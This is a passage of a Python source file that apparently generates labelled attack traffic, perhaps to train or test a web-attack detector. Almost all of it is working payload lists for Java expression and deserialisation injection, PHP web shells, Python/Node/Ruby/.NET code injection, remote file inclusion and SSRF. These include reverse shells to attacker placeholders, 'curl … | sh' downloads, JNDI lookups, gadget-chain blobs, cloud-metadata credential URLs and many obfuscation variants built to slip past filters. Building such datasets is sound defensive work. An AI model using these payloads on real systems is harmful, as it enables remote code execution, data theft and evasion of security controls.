        pl=["form", "multipart", "json"],
        fname="application.yml",
        param="config",
    ),
]

JAVA_HARD = [
    E("''.getClass().forName('java.la'+'ng.Ru'+'ntime').getMethod('getRu'+'ntime').invoke(null).exec('«CMD»')"),
    E(lambda: spel_chars(cmd())),
    E(
        lambda: (
            "T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('%s')))"
            % b64(cmd())
        )
    ),
    E(
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://«IP»:1389/Exploit", "autoCommit": True},
        jesc="@type",
        param="config",
    ),
    E(
        {"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "rmi://«IP»:1099/Exploit", "autoCommit": True},
        param="data",
    ),
    E(
        {"@type": "org.apache.xbean.propertyeditor.JndiConverter", "AsText": "ldap://«IP»:1389/Exploit"},
        param="converter",
    ),
    E(lambda: b64(b64(jser_payload())), pl=["json", "cookie", "form"], param="state", cookie="flowState"),
    E(
        lambda: b64(gzip.compress(jser_payload(), mtime=0)),
        pl=["form", "header", "multipart", "cookie"],
        param="javax.faces.ViewState",
        hdr="X-Flow-State",
    ),
    E(
        lambda: (
            XMLDEC_DOC.replace("/bin/bash", "&#x2f;bin&#x2f;ba&#x73;h").replace(
                "java.lang.ProcessBuilder", "java.lang.&#x50;rocess&#x42;uilder"
            )
            % charrefs(cmd(), "aeiou /")
        ),
        pl=["xml"],
        doc=True,
        path="/wls-wsat/RegistrationPortTypeRPC",
    ),
    E(
        lambda: "%%{(#cmd='%s').(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec(#cmd))}" % uesc(cmd()),
        pl=["header", "query", "form"],
        hdr="Content-Type",
    ),
    E(
        '${"".getClass().forName("javax.script.Scr".concat("iptEngineManager")).newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'«CMD»\')")}'
    ),
    E(
        lambda: quote('${(#a=@java.lang.Runtime@getRuntime().exec("%s"))}' % cmd(), safe=""),
        pl=["path", "query"],
        path="/struts2-showcase",
        psuffix="/actionChain1.action",
    ),
    E("['sh','-c','«CMD»'].execute().text", param="script"),
    E(lambda: 'new String("%s".decodeBase64()).execute().text' % b64(cmd()), param="script", path="/scriptText"),
    E("this['Ja'+'va'].type('java.lang.Run'+'time').getRuntime().exec('«CMD»')"),
    E(
        "jdbc:mysql://«IP»:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=yso_CommonsCollections6_calc",
        pl=["json", "form", "query"],
        param="url",
        path="/api/connections/test",
    ),
    E(
        '#{T(java.lang.Runtime).getRuntime().exec("«CMD»")}',
        pl=["json"],
        jdoc=gw_doc,
        jesc="#{}()",
        path="/actuator/gateway/routes/new_route",
    ),
    E(
        lambda: (
            XSTREAM_DOC.replace("java.beans.EventHandler", "java.beans.&#69;ventHandler").replace(
                "<action>start</action>", "<action>&#115;tart</action>"
            )
            % charrefs(cmd(), "abcdefghijklmnopqrstuvwxyz")
        ),
        pl=["xml"],
        doc=True,
        path="/rest/orders",
    ),
    E(lambda: jser_payload().hex().upper(), pl=["header", "cookie"], hdr="X-Session-State", cookie="SESSION_STATE"),
    E(
        [
            "ch.qos.logback.core.db.DriverManagerConnectionSource",
            {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://«AH»/inject.sql'"},
        ],
        param="source",
    ),
    E("${T(java.lang.Runtime).getRuntime().exec(T(java.lang.String).valueOf(new char[]{105,100}))}"),
]
JAVA_SINK = dict(
    paths=[
        "/struts2-showcase/integration/saveGangster.action",
        "/login.action",
        "/api/v1/preview",
        "/portal/search.jsf",
        "/app/faces/home.xhtml",
        "/rest/api/2/template/render",
        "/api/import",
        "/spring/greeting",
        "/cas/login",
        "/console/expression",
    ],
    params=["name", "expression", "filter", "redirectUrl", "q", "template", "state", "message", "sortBy", "spel"],
    hdrs=["User-Agent", "X-Expression", "Referer", "Accept-Language", "X-Flow-State", "X-Session-State"],
    cookies=["rememberMe", "flowState", "viewstate", "prefs", "remember_token"],
    fnames=["import.xml", "config.yml", "payload.ser", "data.json"],
)

# ================================================================ php_injection


def php_b64_eval():
    return "<?php @eval(base64_decode('%s')); ?>" % b64(
        R.choice(["system($_GET['c']);", "passthru($_POST['x']);", "echo shell_exec('%s');" % cmd()])
    )


def php_gz_eval():
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = co.compress(("system('%s');" % cmd()).encode()) + co.flush()
    return "<?php eval(gzinflate(base64_decode('%s'))); ?>" % b64(raw)


def rot13(s):
    import codecs

    return codecs.encode(s, "rot13")


PHP_NORMAL = [
    E("<?php system($_GET['c']); ?>", pl=["multipart", "json", "form"], fname="avatar.php", fctype="image/jpeg"),
    E("<?php echo shell_exec($_REQUEST['cmd']); ?>"),
    E("<?= `$_GET[x]` ?>", pl=["multipart", "form", "query"]),
    E('<?php $s=fsockopen("«IP»",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>'),
    E(
        "<?php file_put_contents('wp-content/uploads/.cache.php', base64_decode($_POST['d'])); ?>",
        fname="theme-settings.php",
    ),
    E("system('«CMD»');", param="code"),
    E("phpinfo();", param="expr"),
    E("${@phpinfo()}"),
    E("'.system('«CMD»').'", param="name"),
    E("\";system('«CMD»');//", param="title"),
    E("array_map('system', array('«CMD»'))"),
    E("call_user_func_array('system', array('«CMD»'))"),
    E("create_function('', 'system(\"«CMD»\");')"),
    E("system('«CMD»')", pl=["form", "query"], param="replacement", f=[("pattern", "/.*/e"), ("subject", "x")]),
    E(
        "/Index/\\think\\app/invokefunction",
        pl=["query"],
        param="s",
        path="/index.php",
        first=True,
        q=[("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")],
    ),
    E(
        "__construct",
        pl=["form"],
        param="_method",
        path="/index.php",
        q=[("s", "captcha")],
        first=True,
        f=[("filter[]", "system"), ("method", "get"), ("server[REQUEST_METHOD]", "id")],
    ),
    E(
        "phar://../storage/logs/laravel.log",
        pl=["json"],
        path="/_ignition/execute-solution",
        client="api",
        jdoc=lambda S: {
            "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username", "viewFile": S},
        },
    ),
    E(
        "mail[#post_render][]",
        pl=["form"],
        as_name=True,
        kval="exec",
        path="/user/register",
        q=[("element_parents", "account/mail/#value"), ("ajax_form", "1"), ("_wrapper_format", "drupal_ajax")],
        f=[
            ("form_id", "user_register_form"),
            ("_drupal_ajax", "1"),
            ("mail[#type]", "markup"),
            ("mail[#markup]", "id"),
        ],
    ),
    E(
        "echo shell_exec('«CMD»'); exit;",
        pl=["form"],
        param="widgetConfig[code]",
        path="/ajax/render/widget_php",
        f=[("routestring", "ajax/render/widget_php")],
    ),
    E(php_gadget, pl=["cookie", "form", "query", "json", "multipart"], cookie="cart", param="data"),
    E(php_gadget, pl=["cookie", "form", "json"], cookie="session_data", param="state"),
    E("phar://./uploads/2026/12/invoice.jpg/test.txt", param="file"),
    E(
        "-d allow_url_include=1 -d auto_prepend_file=http://«AH»/p.txt",
        pl=["query_key"],
        noeq=True,
        path="/cgi-bin/php-cgi",
        q=[],
    ),
    E("<?php eval($_POST['x']); ?>", pl=["multipart"], mp="content", fname="shell.phtml"),
    E("<?php @eval($_SERVER['HTTP_X_TOKEN']); ?>"),
    E("${system($_GET[c])}"),
    E("<?php highlight_file('/etc/passwd'); ?>"),
    E("');passthru('«CMD»');//"),
    E("1;printf(md5(31337));", param="id"),
    E("<?php include($_GET['f']); ?>", pl=["multipart", "form", "json"]),
    E("<?php echo `cat /var/www/html/wp-config.php`; ?>"),
]

PHP_HARD = [
    E("<?php $a='sys'.'tem'; $a('«CMD»'); ?>"),
    E('<?=$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);', q=[("_", "system"), ("__", "id")]),
    E(php_b64_eval),
    E(php_gz_eval),
    E(lambda: "<?php eval(str_rot13('%s')); ?>" % rot13('system("%s");' % cmd())),
    E("<?php $f=strrev('metsys');$f('«CMD»'); ?>"),
    E(r'<?php ("\x73\x79\x73\x74\x65\x6d")("«CMD»"); ?>'),
    E(r'<?php $x="\163\171\163\164\145\155";$x("«CMD»"); ?>'),
    E("<?PhP SyStEm('«CMD»'); ?>"),
    E('<script language="php">system("«CMD»");</script>', pl=["multipart", "form", "json", "xml"]),
    E(
        "GIF89a;\n<?php system($_GET['c']); ?>",
        pl=["multipart"],
        mp="content",
        fname="avatar.gif.php",
        fctype="image/gif",
    ),
    E(
        "shell.php%00.jpg",
        pl=["multipart"],
        mp="filename",
        fctype="image/jpeg",
        fcontent="<?php system($_GET['c']); ?>",
    ),
    E(
        "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
        pl=["query_key"],
        noeq=True,
        latin1=True,
        raw="%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        path="/php-cgi/php-cgi.exe",
        method="POST",
        q=[],
        client="api",
    ),
    E(lambda: php_gadget().replace("O:", "O:+", 1), pl=["cookie", "form", "query"], cookie="prefs", param="data"),
    E(lambda: b64(php_gadget()), pl=["cookie", "form", "header", "json"], cookie="remember_me", hdr="X-Api-Payload"),
    E(php_filter_chain, pl=["query", "form", "json"], param="page"),
    E(
        '${"\\x5fGET"}[0](${"\\x5fGET"}[1]);',
        q=[("0", "system"), ("1", "id")],
        pl=["form", "json", "multipart"],
        param="code",
    ),
    E("<?php passthru($_GET['c']); ?>", pl=["json"], jesc="<?>$"),
    E("<?php system($_REQUEST['x']); ?>", pl=["xml"], xref="<?>$()'"),
    E(
        lambda: (
            'AddType application/x-httpd-php .png\nphp_value auto_prepend_file "data:;base64,%s"\n'
            % b64("<?php system($_GET['c']); ?>")
        ),
        pl=["multipart"],
        mp="content",
        fname=".htaccess",
        fctype="text/plain",
    ),
    E("<?php $c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$c('«CMD»'); ?>"),
    E('<?php $_GET["a"]($_GET["b"]); ?>', q=[("a", "system"), ("b", "id")]),
]
PHP_SINK = dict(
    paths=[
        "/index.php",
        "/wp-admin/admin-ajax.php",
        "/index.php/api/profile",
        "/ajax/render.php",
        "/modules/contact/send.php",
        "/upload.php",
        "/admin/settings.php",
        "/api/cart/restore",
        "/search.php",
        "/plugins/calc/eval.php",
    ],
    params=["page", "action", "data", "callback", "filter", "template", "code", "cart", "expr", "content"],
    hdrs=["User-Agent", "X-Forwarded-For", "Referer", "X-Api-Payload", "Accept-Language", "X-Debug-Eval"],
    cookies=["cart", "prefs", "wp_settings", "remember_me", "session_data"],
    fnames=["avatar.php", "shell.phtml", "image.php.jpg", "upload.php5", "template.html"],
)

# ================================================================ code_injection


def pickle_b64():
    c = cmd()
    return b64(
        R.choice(
            [
                b"cposix\nsystem\n(V%s\ntR." % c.encode(),
                b"cos\nsystem\n(S'%s'\ntR." % c.encode(),
                b"\x80\x04\x95"
                + bytes([30 + len(c)])
                + b"\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c"
                + bytes([len(c)])
                + c.encode()
                + b"\x94\x85\x94R\x94.",
            ]
        )
    )


def ruby_marshal_b64():
    c = cmd().encode()
    raw = (
        b"\x04\x08[\x07c\x15Gem::SpecFetcherU:\x15Gem::Requirement[\x06o:\x1cGem::Package::TarReader\x06:\x08@iou:\x14Net::BufferedIO\x07"
        b':\x08@ioo:#Gem::Package::TarReader::Entry\x07:\n@readi\x00:\x0c@headerI"\x08aaa\x06:\x06ET:\x12@debug_outputo:\x16Net::WriteAdapter\x07'
        b':\x0c@socketo:\x14Gem::RequestSet\x07:\n@setso;\x0e\x07;\x0fm\x0bKernel:\x0f@method_id:\x0bsystem:\r@git_setI"'
        + bytes([len(c) + 5])
        + c
        + b"\x06;\x0cT;\x12:\x0cresolve"
    )
    return b64(raw)


def dotnet_viewstate():
    xaml = (
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
        'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
        '<ObjectDataProvider x:Key="" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
        "<System:String>cmd</System:String><System:String>/c %s</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"
    ) % R.choice(WIN_CMDS)
    raw = (
        b"\xff\x01\x32" + b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
        b"^Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\x05\x01\x00\x00\x00"
        b"BMicrosoft.VisualStudio.Text.Formatting.TextFormattingRunProperties\x01\x00\x00\x00\x0fForegroundBrush\x01\x02\x00\x00\x00\x06\x03\x00\x00\x00"
        + xaml.encode()
        + b"\x0b"
    )
    return b64(raw)


NET_ODP = {
    "$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
    "MethodName": "Start",
    "MethodParameters": {
        "$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
        "$values": ["cmd", "/c «WCMD»"],
    },
    "ObjectInstance": {
        "$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
    },
}
RUBY_YAML = (
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
    "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    '       read: 0\n       header: "abc"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n'
    "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
    "           git_set: «CMD»\n       method_id: :resolve\n"
)

CODE_NORMAL = [
    E("__import__('os').system('«CMD»')"),
    E("__import__('os').popen('«CMD»').read()"),
    E(
        "eval(compile('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"«IP»\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])','x','exec'))"
    ),
    E("().__class__.__bases__[0].__subclasses__()"),
    E("open('/etc/passwd').read()", param="expr"),
    E("{user.__init__.__globals__[CONFIG][SECRET_KEY]}", param="greeting_format"),
    E('!!python/object/apply:os.system ["«CMD»"]', pl=["multipart", "form", "json"], fname="pipeline.yml"),
    E(
        '!!python/object/apply:subprocess.check_output [["«CMD»"]]',
        pl=["multipart", "json", "xml"],
        fname="config.yaml",
    ),
    E("require('child_process').exec('«CMD»')"),
    E("process.mainModule.require('child_process').execSync('«CMD»').toString()"),
    E("');require('child_process').exec('curl http://«AH»/n.sh|sh');//"),
    E(
        "_$$ND_FUNC$$_function(){require('child_process').exec('«CMD»', function(error, stdout, stderr){ console.log(stdout) });}()",
        param="rce",
        pl=["json", "cookie", "form"],
        cookie="profile",
    ),
    E(
        {
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('«CMD»').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        },
        jdoc=lambda S: {"name": "report", "options": S} if R.random() < 0.5 else S,
        path="/api/v1/settings/merge",
    ),
    E(
        "__proto__[outputFunctionName]",
        pl=["query_key", "form"],
        as_name=True,
        kval="_tmp1;global.process.mainModule.require('child_process').exec('«CMD»');var __tmp2",
    ),
    E(
        "_tmp1;global.process.mainModule.require('child_process').execSync('«CMD»');var __tmp2",
        pl=["json"],
        jdoc=lambda S: {"__proto__": {"outputFunctionName": S}},
    ),
    E("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('«CMD»')"),
    E("res.end(require('fs').readFileSync('/etc/passwd'))"),
    E("%x(«CMD»)", param="template"),
    E("IO.popen('«CMD»').read"),
    E("send(:system, '«CMD»')"),
    E(RUBY_YAML, pl=["multipart", "json", "form"], fname="settings.yml"),
    E("Kernel.open('|«CMD»').read"),
    E("open(my $f, '-|', '«CMD»'); print <$f>;"),
    E("@{[ `«CMD»` ]}"),
    E(NET_ODP, param="settings", path="/api/layouts/import"),
    E('System.Diagnostics.Process.Start("cmd.exe","/c «WCMD»")'),
    E(
        dotnet_viewstate,
        pl=["form"],
        param="__VIEWSTATE",
        path="/Account/Login.aspx",
        f=[
            ("__VIEWSTATEGENERATOR", "CA0B0334"),
            ("__EVENTVALIDATION", b64(rbytes(48))),
            ("ctl00$MainContent$UserName", "admin"),
        ],
    ),
    E(ruby_marshal_b64, pl=["cookie", "form"], cookie="_session_state", param="state"),
    E("os.execute('«CMD»')", param="script"),
    E("io.popen('«CMD»'):read('*a')", param="script"),
    E("=cmd|' /C calc'!A0", param="company", pl=["form", "json", "multipart"]),
    E("@SUM(1+9)*cmd|' /C powershell IEX(wget «AH»/p.ps1)'!A0", param="notes", pl=["form", "json", "multipart"]),
    E(
        '=HYPERLINK("http://«AH»/?leak="&A1&B1,"Click to verify")',
        param="display_name",
        pl=["form", "json", "multipart"],
    ),
    E('System.cmd("sh", ["-c", "«CMD»"])'),
    E("system('«CMD»', intern=TRUE)", param="expr"),
]

CODE_HARD = [
    E("getattr(__import__('o'+'s'),'sys'+'tem')('«CMD»')"),
    E(lambda: "exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('%s')" % cmd())),
    E(lambda: "eval(bytes.fromhex('%s').decode())" % ("__import__('os').popen('%s').read()" % cmd()).encode().hex()),
    E(lambda: "exec(''.join(map(chr,[%s])))" % ",".join(str(ord(c)) for c in "import os;os.system('%s')" % cmd())),
    E("__builtins__.__dict__['__imp'+'ort__']('os').popen('«CMD»').read()"),
    E(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('«CMD»')"
    ),
    E("\U0001d626\U0001d637\U0001d622\U0001d62d(\"__import__('os').system('«CMD»')\")"),
    E("require('child_'+'process')['ex'+'ecSync']('«CMD»')"),
    E(lambda: "eval(Buffer.from('%s','base64').toString())" % b64("require('child_process').execSync('%s')" % cmd())),
    E("global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('child_'+'process')['exe'+'cSync']('«CMD»')"),
    E(r"\u0072\u0065\u0071\u0075\u0069\u0072\u0065('child_process').exec('«CMD»')"),
    E(
        lambda: (
            "eval(String.fromCharCode(%s))"
            % ",".join(str(ord(c)) for c in "require('child_process').exec('%s')" % cmd())
        )
    ),
    E(lambda: 'eval(["%s"].pack("H*"))' % ("system('%s')" % cmd()).encode().hex(), param="template"),
    E(lambda: "Kernel.send(:eval, Base64.decode64('%s'))" % b64("`%s`" % cmd())),
    E(lambda: 'eval pack("H*","%s");' % ("system('%s');" % cmd()).encode().hex()),
    E(pickle_b64, pl=["cookie", "form", "json", "header"], cookie="session", hdr="X-Session-Data", param="state"),
    E(
        '!<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [["«CMD»"]]',
        pl=["multipart", "json", "form"],
        fname="job.yaml",
    ),
    E(NET_ODP, jesc="$", param="layout"),
    E("_$$ND_FUNC$$_function(){require('child_process').exec('«CMD»')}()", pl=["json"], jesc="_$(){}", param="profile"),
    E(
        "constructor[prototype][execArgv][]",
        pl=["query_key", "form"],
        as_name=True,
        kval="--eval=require('child_process').execSync('«CMD»')",
    ),
    E(lambda: "load(string.char(%s))()" % ",".join(str(ord(c)) for c in "os.execute('%s')" % cmd()), param="script"),
    E("-2+3+cmd|' /C calc'!A0", param="amount", pl=["form", "json", "multipart"]),
]
CODE_SINK = dict(
    paths=[
        "/api/calc",
        "/api/v1/eval",
        "/render",
        "/api/formula/preview",
        "/reports/builder/run",
        "/api/rules/test",
        "/webhooks/transform",
        "/notebook/api/run",
        "/api/v2/expressions/validate",
        "/admin/debug/console",
    ],
    params=["expr", "formula", "code", "rule", "transform", "filter", "sort", "callback", "q", "script"],
    hdrs=["User-Agent", "X-Transform", "Referer", "X-Filter", "X-Debug"],
    cookies=["profile", "session", "prefs", "state"],
    fnames=["config.yml", "rules.yaml", "import.csv", "script.py", "data.json"],
)

# ================================================================ rfi


def rfi_ipform(kind):
    def f():
        ip = R.choice(ATTACKER_IPS)
        fm = ip_forms(ip)
        if kind == "v6":
            return "http://[%s]/shell.txt?" % fm["v6"]
        return "http://%s/shell.txt?" % fm[kind]

    return f


RFI_NORMAL = [
    E("http://«AH»/shell.txt?"),
    E("https://«AH»/c99.txt"),
    E("http://«IP»/r57.txt?"),
    E("ftp://anonymous@«IP»/pub/inc.php"),
    E(r"\\«IP»\share\shell.php"),
    E(lambda: "data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>")),
    E("php://input", pl=["query", "cookie"]),
    E("expect://id"),
    E("//«AH»/inc/config.php"),
    E("http://«AH»/wp-shell.txt?x="),
    E(lambda: "https://pastebin.com/raw/" + rstr(8)),
    E("http://«AH»/x.txt#"),
    E("jar:http://«AH»/evil.jar!/payload.class"),
    E(
        '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://«AH»/evil.xsl"/><xsl:template match="/"><out/></xsl:template></xsl:stylesheet>',
        pl=["xml", "multipart"],
        doc=True,
        fname="report.xsl",
        path="/api/reports/transform",
    ),
    E("zip://uploads/avatar.jpg#shell.php"),
    E("http://«IP»:8000/payload.php"),
    E("ftps://«AH»/inc.txt"),
    E("https://raw.githubusercontent.com/x0r-labs/tools/main/s.php"),
    E("smb://«IP»/public/shell.php"),
    E(
        "http://«AH»/inc.php?cmd=id&",
        param="abspath",
        path="/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php",
    ),
    E("http://«AH»/x.txt?", param="mosConfig_absolute_path", path="/components/com_facileforms/facileforms.frame.php"),
    E("https://«AH»/config.inc.txt", param="cfg"),
    E("http://«AH»:80/r.txt??"),
    E("https://«AH»/tpl/evil.php", pl=["json"], param="template_url"),
    E("http://«AH»/evil.jsp", path="/view.jsp", param="page"),
    E("https://«AH»/plugins/evil.js", param="plugin_url"),
    E('<!--#include virtual="http://«AH»/x.shtml" -->', param="comment"),
    E("data:text/plain,<?php phpinfo();?>"),
    E("http://«AH»/shell.gif?", param="lang"),
    E("https://«IP»/s.txt", param="template"),
]
RFI_HARD = [
    E("hTtP://«AH»/shell.txt?"),
    E("http:%2f%2f«AH»%2fshell.txt"),
    E("http://«AH»/shell.txt%00"),
    E("http://«AH»/shell.txt%23"),
    E(lambda: "data:;base64," + b64("<?php passthru($_GET[0]); ?>")),
    E(lambda: "php://filter/read=convert.base64-decode/resource=data://plain/text," + b64("<?php system('id');?>")),
    E("php://filter/resource=http://«AH»/shell.txt"),
    E("compress.zlib://http://«AH»/shell.txt"),
    E(r"\\«AH»@SSL@443\DavWWWRoot\shell.php"),
    E(rfi_ipform("hex")),
    E(rfi_ipform("dec")),
    E(rfi_ipform("v6")),
    E(rfi_ipform("oct")),
    E(lambda: "http://" + R.choice(ATTACKER_HOSTS).replace(".", "\u3002") + "/shell.txt"),
    E(lambda: "HTTPS://" + R.choice(ATTACKER_HOSTS).upper() + "/SHELL.TXT"),
    E("ftp://anonymous:guest@«IP»:2121/pub/x.txt"),
    E("http://«AH»/shell.txt?", pl=["json"], jesc=":/."),
    E("http://«AH»/shell.txt?", pl=["xml"], xref=":/."),
    E("http://www.example.com@«AH»/shell.txt"),
    E(r"http:\\«AH»\shell.txt"),
    E("%68ttp://«AH»/shell.txt"),
    E("zip://../../uploads/2026/avatar.jpg%23shell.php"),
]
RFI_SINK = dict(
    paths=[
        "/index.php",
        "/main.php",
        "/include.php",
        "/modules/mod_mainmenu.php",
        "/templates/load.php",
        "/cgi-bin/page.cgi",
        "/view.jsp",
        "/portal/render",
        "/admin/theme.php",
        "/help/show.php",
    ],
    params=[
        "page",
        "file",
        "include",
        "template",
        "lang",
        "module",
        "path",
        "view",
        "inc",
        "theme",
        "src",
        "plugin",
        "skin",
        "layout",
        "doc",
    ],
    hdrs=["Accept-Language", "Referer", "X-Template-Url", "X-Skin"],
    cookies=["lang", "theme", "template", "skin"],
    fnames=["template.xml", "import.txt"],
)

# ================================================================ ssrf

MD = "169.254.169.254"


def ssrf_ip(kind, path="/latest/meta-data/"):
    def f():
        fm = ip_forms(MD)
        if kind == "v6":
            return "http://[%s]%s" % (fm["v6"], path)
        return "http://%s%s" % (fm[kind], path)

    return f


SSRF_NORMAL = [
    E("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    E("http://169.254.169.254/latest/user-data"),
    E("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    E("http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    E(
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
    ),
    E("http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    E(lambda: "http://169.254.170.2/v2/credentials/" + uuid4()),
    E("http://localhost:8080/actuator/env"),
    E("http://127.0.0.1:2375/containers/json"),
    E("https://127.0.0.1:10250/pods"),
    E("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    E(
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20%3F%3E%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2413%0D%0A/var/www/html%0D%0A"
    ),
    E("dict://127.0.0.1:11211/stats"),
    E("file:///etc/passwd"),
    E("http://10.0.0.12:9200/_cat/indices?v"),
    E("http://192.168.0.1/cgi-bin/luci"),
    E("http://localhost:8500/v1/agent/self"),
    E("http://127.0.0.1:2379/v2/keys/?recursive=true"),
    E("ldap://127.0.0.1:389/dc=corp,dc=local"),
    E("http://localhost/server-status"),
    E("http://169.254.169.254/openstack/latest/meta_data.json"),
    E("http://169.254.169.254/metadata/v1/"),
    E("http://169.254.169.254/opc/v2/instance/"),
    E("http://instance-data/latest/meta-data/"),
    E("http://localhost:15000/config_dump"),
    E("http://localhost:3000/api/admin/settings"),
    E(
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        pl=["json"],
        path="/api/v1/webhooks",
        jdoc=lambda S: {
            "name": "deploy-notify",
            "url": S,
            "events": ["push", "release"],
            "active": True,
            "content_type": "json",
        },
    ),
    E(
        '<iframe src="http://169.254.169.254/latest/meta-data/iam/info" width="800" height="600"></iframe>',
        param="html",
        path="/pdf/render",
        pl=["json", "form"],
    ),
    E(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="http://169.254.169.254/latest/meta-data/" width="200" height="200"/></svg>',
        pl=["multipart"],
        mp="content",
        fname="logo.svg",
        path="/image/resize",
    ),
    E("169.254.169.254", pl=["header"], hdr="Host", path="/latest/meta-data/"),
    E("tftp://«IP»:69/TESTUDPPACKET"),
    E("netdoc:///etc/passwd"),
]
SSRF_HARD = [
    E(ssrf_ip("dec")),
    E(ssrf_ip("oct")),
    E(ssrf_ip("hexdot")),
    E(ssrf_ip("HEX", "/latest/user-data")),
    E(ssrf_ip("two")),
    E(lambda: R.choice(["http://127.1:6379/", "http://0/", "http://0.0.0.0:8080/actuator/heapdump"])),
    E("http://[::ffff:169.254.169.254]/latest/meta-data/"),
    E(ssrf_ip("v6")),
    E("http://[0:0:0:0:0:ffff:127.0.0.1]:8080/admin"),
    E("http://[fd00:ec2::254]/latest/meta-data/"),
    E("http://169.254.169.254.nip.io/latest/meta-data/"),
    E("http://a9fea9fe.7f000001.rbndr.us/latest/meta-data/"),
    E("http://images.example.com@169.254.169.254/latest/meta-data/"),
    E("http://169.254.169.254#@images.example.com/"),
    E("http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"),
    E("http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/"),
    E("http://169\u3002254\u3002169\u3002254/latest/meta-data/"),
    E("http://017700000001:8080/manager/html"),
    E("https://«OAST»/r?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    E(
        "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%05%05%00%0F%10SERVER_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1%0E%02CONTENT_LENGTH58%0E%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0Adisable_functions%20%3D%20%0Aauto_prepend_file%20%3D%20php%3A//input"
    ),
    E("http://169.254.169.254/latest/meta-data/", pl=["json"], jesc=":/"),
    E("http://[::]:6379/"),
    E("http://metadata.google.internal./computeMetadata/v1/?recursive=true&alt=text"),
]
SSRF_SINK = dict(
    paths=[
        "/api/v1/webhooks",
        "/api/fetch",
        "/proxy",
        "/api/preview",
        "/image/resize",
        "/api/import/url",
        "/integrations/test",
        "/pdf/render",
